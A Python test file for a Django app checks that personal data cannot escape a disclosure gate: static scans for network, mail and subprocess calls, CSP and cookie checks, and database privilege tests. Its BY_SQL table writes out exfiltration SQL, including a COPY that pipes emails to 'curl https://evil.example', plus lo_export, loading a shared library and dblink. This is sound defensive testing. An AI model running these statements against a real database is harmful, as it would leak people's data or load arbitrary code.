"""Ways by which personal data could leave past the gate, each planted, and the guard that is red.

The wall (tests/ops/test_wall.py) is shown seven more: socket, http, urllib, smtp, datagram, libc
and another program. The wire (tests/egress/test_wire.py, test_connections.py) is shown four: a
connection for no message, for one that is not there, for one that was not let go, and an answer
without one.
"""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import psycopg
import pytest
from django.conf import settings
from django.core import mail
from django.db import ProgrammingError, connection, transaction
from django.http import HttpResponse
from django.test import Client

from creditable.disclosure import gate, templates
from creditable.disclosure.models import Outbox, Subject
from creditable.disclosure.templates import Line, Template, register
from creditable.lib.actor import Actor
from tests.architecture.source import Module, called, inside, modules
from tests.architecture.test_network import talkers
from tests.microscope import seen

BY = Actor.system("tests")
CANARY = "Serinus Canaria-Quill"
VALUES = {"total": "39.00", "name": CANARY, "phone": "214 555 0143", "link": "https://x.test/"}


def left() -> str:
    """All that the sender would carry."""
    return "".join(f"{row.head}{bytes(row.body).decode()}" for row in Outbox.objects.all())


def let_go(template: Template, values: dict[str, str], person: Subject) -> None:
    opened = gate.open(template=template, by=BY, key="way")
    opened.add(person.id, values)
    opened.commit()


# Through the gate, with more than is allowed

THROUGH: dict[str, Callable[[Template, Subject], None]] = {
    "a field that the template does not have": lambda payment, person: let_go(
        payment, {**VALUES, "license": CANARY}, person
    ),
    "a recipient that the policy does not name": lambda payment, person: let_go(
        replace(payment, recipient="advertiser.of_mine"), VALUES, person
    ),
    "a purpose that the policy does not name": lambda payment, person: let_go(
        replace(payment, purpose="curiosity"), VALUES, person
    ),
    "another channel than the policy's": lambda payment, person: let_go(
        replace(payment, channel="smtp"), VALUES, person
    ),
    "a group that the policy leaves out": lambda payment, person: let_go(
        replace(payment, group="minor"), VALUES, person
    ),
    "personal data of nobody": lambda payment, person: gate.open(
        template=payment, by=BY, key="way"
    ).add(None, VALUES),
    "a second template under a known name": lambda payment, person: let_go(
        register(replace(register(payment), recipient="renter")), VALUES, person
    ),
    "a required field that stays behind": lambda payment, person: let_go(
        replace(payment, required=frozenset({"phone"})), VALUES, person
    ),
}


@pytest.fixture
def register_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever a test registers is forgotten after it."""
    monkeypatch.setattr(templates, "_registered", dict(templates.registered()))


@pytest.mark.parametrize("way", THROUGH)
def test_the_gate_refuses(
    way: str, policy: None, payment: Template, person: Subject, register_of_its_own: None
) -> None:
    with pytest.raises((gate.Denied, ValueError, KeyError)):
        THROUGH[way](replace(payment, name=f"ways.{way}"), person)
    assert left() == ""


def test_a_message_is_built_of_what_was_let_through_and_nothing_else(
    policy: None, payment: Template, person: Subject
) -> None:
    """A template variable that asks for more finds nothing."""
    given: list[Line] = []
    build = payment.build
    assert build is not None

    def spy(lines: Any, key: str) -> Any:
        given.extend(lines)
        return build(lines, key)

    let_go(replace(payment, build=spy), {**VALUES, "phone": CANARY}, person)
    assert "phone" not in given[0].values
    assert json.loads(left()[left().index("[") :])[0].keys() == {"total", "name", "link"}


# Past the gate, in the program's text


@dataclass(frozen=True)
class Scan:
    """A look at the program as text: what it finds, and how much it looked at."""

    finds: Callable[[list[Module]], list[str]]
    planted: tuple[str, ...]
    allowed: tuple[str, ...] = ()


def writers_of_the_outbox(found: list[Module]) -> list[str]:
    """Who makes messages or lines of the ledger besides the gate."""
    rows = re.compile(r"^(Outbox|Release)(\.objects\.\w*create|\.objects\.update_or_create)?$")
    return [
        f"{module.name}: {name}"
        for module in found
        if module.name != "creditable.disclosure.gate"
        for name, _ in called(module)
        if rows.match(name)
    ]


def downloads(found: list[Module]) -> list[str]:
    """Who hands out a file."""
    import ast

    return [
        module.name
        for module in found
        if any(
            isinstance(node, ast.Constant) and node.value == "Content-Disposition"
            for node in ast.walk(module.tree)
        )
    ]


def mailers(found: list[Module]) -> list[str]:
    """Who calls Django's own way to send mail."""
    names = ("send_mail", "EmailMessage(", "send_mass_mail", "mail_admins", "email_user")
    own = ("creditable.disclosure.messages", "creditable.egress", "creditable.standins")
    return [
        f"{module.name}: {name}"
        for module in found
        if not inside(module.name, own)
        for name, _ in called(module)
        if f"{name}(".endswith(tuple(f"{one.rstrip('(')}(" for one in names))
    ]


def starters(found: list[Module]) -> list[str]:
    """Who starts another program."""
    ways = ("subprocess.", "os.system", "os.popen", "os.exec", "os.spawn", "os.posix_spawn")
    return [
        f"{module.name}: {name}"
        for module in found
        if not inside(module.name, ("creditable.ops", "creditable.standins"))
        for name, _ in called(module)
        if name.startswith(ways)
    ]


def raw_talkers(found: list[Module]) -> list[str]:
    """Who reaches below Python, where no import tells of it."""
    return [
        f"{module.name}: {name}"
        for module in found
        if not inside(module.name, ("creditable.ops",))
        for name, _ in called(module)
        if name.startswith(("ctypes.", "cffi.", "mmap."))
    ]


SCANS = {
    "network libraries": Scan(
        talkers, ("import socket", "from urllib.request import urlopen", "import smtplib")
    ),
    "messages and lines that the gate did not write": Scan(
        writers_of_the_outbox,
        ("Outbox.objects.create(body=b'')", "Release.objects.bulk_create([])", "Outbox(key='x')"),
    ),
    "Django's own mail": Scan(
        mailers,
        ("send_mail('s', 'b', None, [])", "django.core.mail.mail_admins('s', 'b')"),
    ),
    "other programs": Scan(
        starters,
        ("subprocess.run(['curl'])", "os.system('curl')"),
        allowed=("creditable.lib.capped: ",),  # readers of what is handed in, which open nothing
    ),
    "what lies below Python": Scan(
        raw_talkers, ("ctypes.CDLL(None)",), allowed=("creditable.standins.process: ",)
    ),
}


@pytest.mark.parametrize("name", SCANS)
def test_the_programs_text_has_no_such_way(name: str) -> None:
    scan = SCANS[name]
    found = modules()
    assert len(found) > 200
    assert [one for one in scan.finds(found) if not one.startswith(scan.allowed)] == []
    for line in scan.planted:
        assert scan.finds([Module.of("creditable.web.console.people", line)]), line


DOWNLOADS = {
    "creditable.web.classroom.record": "one's own record",
    "creditable.web.account.privacy": "one's own lines of the ledger",
    "creditable.web.account.certificates": "one's own certificates",
    "creditable.web.account.orders": "one's own invoices",
    "creditable.web.account.credits": "one's own photos of certificates from elsewhere",
    "creditable.web.account.reviews": "what an authority audits, which the gate let through",
    "creditable.web.console.reviews": "the same, handed over by the office",
    "creditable.web.console.documents": "an identity document on the screen, marked and noted",
    "creditable.web.console.contracts": "a contract, signed by companies",
    "creditable.web.console.legal": "the demand of a matter, and what two approved for it",
    "creditable.web.console.rentals": "a list that was rented, which is a release by hand",
    "creditable.web.console.completions": "completions of many people, through the gate",
    "creditable.web.console.reports": "a list to an authority, which is a release by hand",
}


def test_every_file_that_is_handed_out_is_known() -> None:
    """A staff download of people is a release: whoever adds one says here what it is."""
    assert set(downloads(modules())) <= DOWNLOADS.keys()
    planted = "answer['Content-Disposition'] = 'attachment; filename=people.csv'"
    assert downloads([Module.of("creditable.web.console.people", planted)])


# Past the gate, by the database

BY_SQL = {
    "to a program": "COPY (SELECT email FROM people_person) TO PROGRAM 'curl https://evil.example'",
    "to a file": "COPY (SELECT email FROM people_person) TO '/tmp/canary'",
    "as a large object": "SELECT lo_export(1, '/tmp/canary')",
    "to another database": "CREATE EXTENSION dblink",
    "to a foreign table": "CREATE EXTENSION postgres_fdw",
    "by a library": "LOAD '/tmp/canary.so'",
    "by a function in C": (
        "CREATE FUNCTION public.canary() RETURNS int AS '/tmp/canary.so' LANGUAGE c"
    ),
    "to a subscriber": "CREATE PUBLICATION canary FOR ALL TABLES",
    "with the log": "SET log_statement = 'all'",
}


@pytest.mark.parametrize("way", BY_SQL)
@pytest.mark.django_db
def test_the_database_lets_nothing_out(way: str) -> None:
    with pytest.raises(ProgrammingError) as refusal, transaction.atomic():  # noqa: SIM117
        with connection.cursor() as cursor:
            cursor.execute(BY_SQL[way])
    assert isinstance(refusal.value.__cause__, psycopg.errors.InsufficientPrivilege)


# Past the gate, in an answer of the pages


def test_a_fault_shows_nobody_what_it_was_about(
    client: Client, monkeypatch: pytest.MonkeyPatch, policy: None
) -> None:
    """An exception whose words hold a name: neither page nor headers say them."""
    from creditable.web.shop import ledger

    def fail(*_: object) -> None:
        raise RuntimeError(f"no license of {CANARY}")

    monkeypatch.setattr(ledger.seals, "latest", fail)
    client.raise_request_exception = False
    answer = client.get("/privacy/ledger/")
    assert answer.status_code == 500
    assert not seen(CANARY, answer.content + str(answer.headers).encode())


@pytest.mark.django_db
def test_mail_by_django_itself_goes_nowhere(settings: Any) -> None:
    """Tests replace the setting, so the program's own is asked for in its text."""
    text = (Path(settings.ROOT) / "creditable" / "settings.py").read_text(encoding="utf-8")
    backend = re.search(r'^EMAIL_BACKEND = "([^"]+)"', text, re.MULTILINE)
    assert backend, "the default would open a connection from wherever it is called"
    assert backend[1] == "django.core.mail.backends.dummy.EmailBackend"
    assert mail.get_connection(backend[1]).send_messages([]) in {0, None}


@pytest.mark.django_db
def test_a_page_loads_from_and_sends_to_this_site_alone(client: Client, policy: None) -> None:
    """A pixel, a font, a script, a form or a referrer that leads elsewhere."""
    answer = client.get("/privacy/")
    rules = {
        words[0]: set(words[1:])
        for words in map(str.split, answer["Content-Security-Policy"].split(";"))
        if words
    }
    assert rules["default-src"] == {"'none'"}
    for kind in ("img-src", "font-src", "script-src", "style-src", "connect-src", "form-action"):
        assert rules.get(kind, {"'none'"}) <= {"'self'", "'none'", "data:"}, kind
    assert answer["Referrer-Policy"] == "same-origin"


@pytest.mark.django_db
def test_who_is_signed_out_takes_no_cookie_along(client: Client, policy: None) -> None:
    for page in ("/", "/courses/", "/privacy/", "/verify/"):
        assert not client.get(page).cookies, page


def planted_answer() -> HttpResponse:
    answer = HttpResponse("<p>all is well</p>")
    answer["X-Debug"] = CANARY
    answer.set_cookie("who", CANARY.encode().hex())
    return answer


def test_a_header_or_cookie_with_a_name_would_be_seen() -> None:
    answer = planted_answer()
    assert not seen(CANARY, answer.content)
    assert seen(CANARY, str(answer.headers).encode())
    assert seen(CANARY, str(answer.cookies).encode())


def test_there_is_no_side_door_for_staff() -> None:
    assert "django.contrib.admin" not in settings.INSTALLED_APPS
    assert not settings.DEBUG


def test_so_many_ways_are_tried() -> None:
    here = len(THROUGH) + len(SCANS) + len(BY_SQL) + 6
    assert here >= 20
